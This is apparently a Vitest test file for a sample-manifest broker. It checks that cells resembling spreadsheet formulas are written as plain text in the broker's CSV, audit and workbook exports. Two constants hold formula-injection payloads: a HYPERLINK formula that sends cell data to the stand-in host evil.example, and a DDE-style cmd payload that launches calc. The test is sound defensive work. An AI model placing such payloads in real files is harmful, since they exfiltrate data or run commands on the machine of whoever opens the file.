import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportCsv } from '@/components/manifests/report-csv';
import { fakeTaxonomy } from './fixtures/manifests/taxa';
import { createProfile, dtolRows, uploadManifest } from './support/flows';
import { createHarness, type Harness } from './support/harness';

/**
 * A researcher's cell that a spreadsheet program would evaluate (`=HYPERLINK(…)` sends the row's neighbours to another
 * site when clicked) leaves the broker as text in every CSV and workbook it writes.
 */

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"details")';
const AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

let h: Harness;
let owner: Awaited<ReturnType<Harness['user']>>;
let manifestId: string;

beforeAll(async () => {
  h = await createHarness({}, { workers: true, taxonomy: fakeTaxonomy() });
  owner = await h.user({ memberOf: ['dtol'] });
  const profileId = await createProfile(h, owner.key, { title: 'Formulae', description: 'cells that look like formulae', type: 'dtol' });
  const rows = dtolRows(2).map((r) => ({ ...r, COLLECTOR_AFFILIATION: HYPERLINK }));
  manifestId = (await uploadManifest(h, owner.key, profileId, rows)).manifest_id;
  // a re-upload that changes a field puts the new value in the samples' history (the audit)
  await uploadManifest(
    h,
    owner.key,
    profileId,
    rows.map((r) => ({ ...r, DESCRIPTION_OF_COLLECTION_METHOD: AT_FORMULA })),
  );
}, 120_000);
afterAll(() => h.close());

/** Every cell of a CSV text that begins with a character a spreadsheet program takes for a formula. */
function formulaCells(csv: string): string[] {
  const cells: string[] = [];
  for (const m of csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\n]*)/gm)) {
    const cell = (m[1] ?? '').replace(/^"|"$/g, '').replace(/""/g, '"');
    if (/^[=+\-@\t\r]/.test(cell) && !/^[+-]?[0-9.]+$/.test(cell)) cells.push(cell);
  }
  return cells;
}

describe('cells that look like formulae', () => {
  it('are written as text in the public manifest CSV', async () => {
    const res = await h.request(`/api/manifest/${manifestId}?return_type=csv`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""details"")"`);
    expect(formulaCells(csv)).toEqual([]);
  });

  it('are written as text in the sample browser’s export', async () => {
    const res = await h.request('/api/samples/browse?return_type=csv', { key: owner.key });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain("'=HYPERLINK(");
    expect(formulaCells(csv)).toEqual([]);
  });

  it('are written as text in the audit CSV', async () => {
    const res = await h.request(`/api/audit/sample/manifest_id/${manifestId}?return_type=csv`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`,'${AT_FORMULA},`);
    expect(formulaCells(csv)).toEqual([]);
  });

  it('are written as text in a validation report’s CSV', () => {
    const csv = reportCsv({
      errors: [{ row: 2, tube: '=2+2', column: 'K', field: 'COLLECTOR_AFFILIATION', value: HYPERLINK, rule: 'invalid', message: '=1+1' }],
      warnings: [],
    });
    expect(formulaCells(csv)).toEqual([]);
  });

  it('are strings, never formulae, in the workbook of a confirmed manifest', async () => {
    const res = await h.request(`/api/manifest/${manifestId}/spreadsheet`, { key: owner.key });
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const kinds = new Map<string, ExcelJS.ValueType>();
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) => row.eachCell((cell) => void kinds.set(`${sheet.name}!${cell.address}:${String(cell.value)}`, cell.type))),
    );
    const hyperlinks = [...kinds].filter(([at]) => at.includes(HYPERLINK));
    expect(hyperlinks.length).toBe(2);
    for (const [, kind] of hyperlinks) expect(kind).toBe(ExcelJS.ValueType.String);
    expect([...kinds].filter(([, kind]) => kind === ExcelJS.ValueType.Formula)).toEqual([]);
  });
});
